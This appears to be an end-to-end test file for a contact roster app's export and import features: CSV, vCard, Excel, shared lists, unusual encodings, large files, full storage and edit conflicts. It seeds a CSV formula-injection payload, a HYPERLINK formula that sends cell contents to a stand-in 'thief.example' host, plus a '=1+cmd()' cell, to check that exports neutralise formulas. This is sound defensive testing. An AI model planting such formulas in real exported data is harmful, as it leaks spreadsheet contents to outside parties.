import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ListId, PersonId, ProfileId } from '@/lib/domain/ids';
import { openRoster, openWindow, type RosterStage } from '../support/roster-stage';

/** People who leave one profile as files and come into another, and files as other programs write them. */
const DAY = 86_400_000;
const MB = 1024 * 1024;
const hostile = '=HYPERLINK("https://thief.example/?"&A1,"Ada")';
const notes = '+49 30 1234567, "quoted"; -2\n@mention me';
const ada = 'person-ada' as PersonId;
const bo = 'person-bo' as PersonId;

let home: RosterStage;
let away: RosterStage;

beforeAll(async () => {
  home = await openRoster();
  await seed();
  await home.board.page.reload();
  await home.board.see('Bo Lindqvist');
});
afterAll(async () => {
  await home?.close();
  await away?.close();
});

async function seed(): Promise<void> {
  const now = Date.now();
  const at = { createdAt: now - DAY, updatedAt: now - DAY };
  const address = (text: string) => ({
    address: text,
    source: 'hand' as const,
    addedAt: now,
    status: 'unchecked' as const,
  });
  await home.tables.put(
    'people',
    {
      ...at,
      id: ada,
      displayName: hostile,
      nameKey: hostile.toLowerCase(),
      emails: [address('ada@creators.example')],
      emailKeys: ['ada@creators.example'],
      stage: 'contacted',
      notes,
      tags: ['@autumn', 'none'],
    },
    {
      ...at,
      id: bo,
      displayName: 'Bo Lindqvist',
      nameKey: 'bo lindqvist',
      emails: [address('bo@creators.example')],
      emailKeys: ['bo@creators.example'],
      stage: 'prospect',
      notes: 'A name of many letters: '.padEnd(120, 'ö'),
    },
  );
  await home.tables.put('profiles', {
    id: 'profile-ada' as ProfileId,
    personId: ada,
    site: 'instagram',
    handle: 'ada.formula',
    handleKey: 'ada.formula',
    url: 'https://www.instagram.com/ada.formula/',
    followers: 0,
    followersPrecision: 'exact',
    counts: { followers: { precision: 'exact', readAt: now - DAY } },
    identityKeys: [],
    seenAt: now - DAY,
    lastReadAt: now - DAY,
  });
  const listId = 'list-alpine' as ListId;
  await home.tables.put('lists', { id: listId, name: 'Alpine, 2026', campaign: 'Lamps', createdAt: now });
  await home.tables.put(
    'listMembers',
    ...[ada, bo].map((personId) => ({ key: `${listId}:${personId}`, listId, personId, addedAt: now })),
  );
}

describe('people who leave', () => {
  it('do so in a CSV of which no cell is a formula', async () => {
    await home.board.exportPeople('CSV', { columns: 'All fields' });
    const file = await home.files.downloaded('.csv');
    await home.files.write('people.csv', file);
    const { data } = Papa.parse<string[]>(file.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    expect(data).toHaveLength(3);
    expect(data.flat()).toContain(`'${hostile}`);
    expect(data.flat().filter((cell) => /^\s*[=+@-]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });

  it('do so as cards for an address book', async () => {
    await home.board.press('Choose Bo Lindqvist');
    await home.board.exportPeople('vCard', { which: 'chosen' });
    const card = (await home.files.downloaded('.vcf')).toString('utf8');
    for (const line of card.split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    const whole = card.replaceAll('\r\n ', '').split('\r\n');
    expect(whole.filter((line) => line === 'BEGIN:VCARD')).toHaveLength(1);
    expect(whole).toContain('FN:Bo Lindqvist');
    expect(whole.some((line) => /^EMAIL[^:]*:bo@creators\.example$/.test(line))).toBe(true);
    expect(whole).toContain('CATEGORIES:Alpine\\, 2026');
    expect(whole.find((line) => line.startsWith('NOTE:'))).toMatch(/ö{90}$/);
    await home.board.key('Escape');
  });

  it('do so as a workbook and as a shared list', async () => {
    await home.board.exportPeople('Excel', { columns: 'All fields' });
    await home.files.write('people.xlsx', await home.files.downloaded('.xlsx'));
    await home.board.go('#/lists', '2 people');
    await home.board.press('More for Alpine, 2026');
    await home.board.press('Share as a file');
    await home.board.see('is among your downloads: 2 people');
    const list = await home.files.downloaded('.json');
    expect(list.toString('utf8')).not.toContain('mention me');
    await home.files.write('list.json', list);
  });
});

describe('in another profile', () => {
  beforeAll(async () => {
    away = await openRoster();
  });

  it('a shared list is read in, with its name and its people', async () => {
    const { board, tables } = away;
    await board.go('#/import', 'Drop a file here');
    await board.giveFile(home.files.path('list.json'));
    await board.see('A list of 2 people, shared as a file: “Alpine, 2026” for “Lamps”');
    await board.checkFile();
    await board.see('2 rows read.');
    await board.import();
    await board.see('The file is in.');
    expect((await tables.all('people')).map(({ displayName }) => displayName).sort()).toEqual([
      hostile,
      'Bo Lindqvist',
    ]);
    expect((await tables.all('lists')).map(({ name, campaign }) => [name, campaign])).toEqual([
      ['Alpine, 2026', 'Lamps'],
    ]);
    expect(await tables.all('listMembers')).toHaveLength(2);
  });

  it('the CSV brings the rest, with what only looks like a formula as it was', async () => {
    const { board, tables } = away;
    await board.press('Import another file');
    await board.giveFile(home.files.path('people.csv'));
    await board.see('A file of Muster’s own');
    await board.checkFile();
    await board.see('2 rows read.');
    await board.import();
    await board.see('The file is in.');
    const people = await tables.all('people');
    expect(people).toHaveLength(2);
    const there = people.find(({ displayName }) => displayName === hostile);
    expect(there?.tags).toEqual(['@autumn', 'none']);
    // Whoever came with the list has a stage here already: it is kept as it is.
    expect(there?.stage).toBe('prospect');
    expect(there?.notes).toBe(notes);
  });

  it('the workbook of the same people opens and has nothing new to say', async () => {
    const { board } = away;
    await board.press('Import another file');
    await board.giveFile(home.files.path('people.xlsx'));
    await board.checkFile();
    await board.see('Nothing would change');
    expect(await board.countOf('rows say nothing new')).toBe('2');
    expect(await board.countOf('rows with errors, left out')).toBe('0');
    await board.press('Choose another file');
  });
});

describe('a file of another program', () => {
  beforeAll(() => away.board.go('#/people', 'Bo Lindqvist').then(() => away.board.go('#/import', 'Drop a file here')));

  const take = async (file: string) => {
    await away.board.giveFile(file);
    await away.board.checkFile();
    await away.board.see('Nothing has been written yet');
    await away.board.import();
    await away.board.see('The file is in.');
    await away.board.press('Import another file');
  };
  const notesOf = async (name: string) =>
    (await away.tables.all('people')).find(({ displayName }) => displayName === name)?.notes;

  it('in UTF-16 with tabs and a header that comes twice', async () => {
    const text = '\uFEFFFull name\tE-mail\tNotes\tNotes\r\nŁucja Żółw\tlucja@mail.example\tfirst\tsecond\r\n';
    await away.board.giveFile(await away.files.write('wide.txt', Buffer.from(text, 'utf16le')));
    await away.board.see('lucja@mail.example');
    await away.board.see('first');
    await away.board.see('second');
    await away.board.press('Choose another file');
    await take(away.files.path('wide.txt'));
    expect(await notesOf('Łucja Żółw')).toContain('first');
  });

  it('in Windows-1252 with semicolons and two columns, and in UTF-8 with one line that is not', async () => {
    const western = Buffer.from('Name;E-mail\r\nZoë Müller;zoe@mail.example\r\n', 'latin1');
    await take(await away.files.write('western.csv', western));
    expect(await notesOf('Zoë Müller')).toBe('');
    const mixed = [
      Buffer.from('Name,E-mail\r\nÅgot Ørn,agot@mail.example\r\n', 'utf8'),
      Buffer.from('José Núñez,jose@mail.example\r\n', 'latin1'),
    ];
    await take(await away.files.write('mixed.csv', Buffer.concat(mixed)));
    expect(await notesOf('Ågot Ørn')).toBe('');
    expect(await notesOf('José Núñez')).toBe('');
  });

  it('with the separator named in its first line, and a formula in a cell', async () => {
    await take(
      await away.files.write('bars.csv', ['sep=|', 'Name|E-mail|Notes', 'Uma Bar|uma@mail.example|=1+cmd()', '']),
    );
    expect(await notesOf('Uma Bar')).toBe('=1+cmd()');
  });

  it('of 20 MB is tried through while the screen goes on, and can be stopped', async () => {
    const { board, files } = away;
    const words = 'Ceramics, slow food and night trains. '.repeat(40);
    const rows = Math.ceil((20 * MB) / (words.length + 45));
    const file = await files.write('large.csv', [
      'Name,E-mail,Notes',
      ...Array.from({ length: rows }, (_, at) => `Creator ${at},creator.${at}@mail.example,"${words}"`),
    ]);
    await board.page.evaluate(`
      globalThis.longTasks = [];
      new PerformanceObserver((list) => {
        for (const { duration } of list.getEntries()) globalThis.longTasks.push(duration);
      }).observe({ type: 'longtask' });
    `);
    await board.giveFile(file);
    await board.checkFile();
    await board.see('Checking the file');
    // Stopped in the same moment: a look later the check may be through.
    await board.page.waitForFunction(
      () => {
        if (!/[1-9]\d*% · \d/.test(document.body.innerText.replace(/\s+/g, ' '))) return false;
        [...document.querySelectorAll('button')].find(({ innerText }) => innerText.trim() === 'Stop')?.click();
        return true;
      },
      { timeout: 60_000, polling: 50 },
    );
    await board.see('Check the file');
    const from = Date.now();
    await board.checkFile();
    await board.see('Nothing has been written yet', 60_000);
    const worst = Math.max(0, ...((await board.page.evaluate('globalThis.longTasks')) as number[]));
    console.log(`20 MB checked in ${Date.now() - from} ms; the longest task of the page ${Math.round(worst)} ms`);
    expect(worst).toBeLessThan(1_000);
    await board.press('Choose another file');
  });
});

/** What the browser does when the disk is full. As text: what a test's compiler adds to functions does not exist there. */
const fill = `(() => {
  const { put, add } = IDBObjectStore.prototype;
  globalThis.makeRoom = () => Object.assign(IDBObjectStore.prototype, { put, add });
  const refuse = () => { throw new DOMException('full', 'QuotaExceededError'); };
  Object.assign(IDBObjectStore.prototype, { put: refuse, add: refuse });
})(); 0`;

describe('with no room left in the storage', () => {
  it('a file for somebody is refused in words, nothing is lost, and it goes in when there is room', async () => {
    const { board, tables, files } = home;
    const before = await tables.all('people');
    const kit = await files.write('media kit.pdf', '%PDF-1.4 not really one');
    await board.go(`#/people/${bo}`, 'Drop a media kit');
    await board.page.evaluate(fill);
    await board.give('Files to add', kit);
    await board.see('There is no room left for 23 bytes in the browser’s storage. Nothing else was lost');
    await board.page.evaluate('makeRoom(); 0');
    expect(await tables.all('people')).toEqual(before);
    await board.give('Files to add', kit);
    await board.see('1 file added.');
  });
});

describe('two windows', () => {
  it('with the same field of one person: the later one is asked, and both stay in the timeline', async () => {
    const { browsing, board } = home;
    await board.go(`#/people/${bo}`, 'Values and limits');
    const other = await openWindow(browsing.muster, `#/people/${bo}`);
    await other.see('Values and limits');
    await board.press('Add owner');
    await board.write('Owner', 'Ines Carvalho');
    await other.press('Add owner');
    await other.write('Owner', 'Jo Weiss');
    await other.key('Enter');
    await board.see('Bo Lindqvist’s owner was changed in another window to “Jo Weiss”. Both stay in the timeline.');
    await board.press('Keep yours');
    await other.see('Owner changed from “Jo Weiss” to “Ines Carvalho”.');
    await other.see('Owner set to “Jo Weiss”.');
    await board.see('Owner changed from “Jo Weiss” to “Ines Carvalho”.');
    expect((await home.tables.all('people')).find(({ id }) => id === bo)?.owner).toBe('Ines Carvalho');
    expect(
      (await home.tables.all('activities')).flatMap(({ edit }) =>
        edit?.field === 'owner' ? [[edit.from, edit.to]] : [],
      ),
    ).toEqual(
      expect.arrayContaining([
        ['', 'Jo Weiss'],
        ['Jo Weiss', 'Ines Carvalho'],
      ]),
    );
    await other.page.close();
  });
});
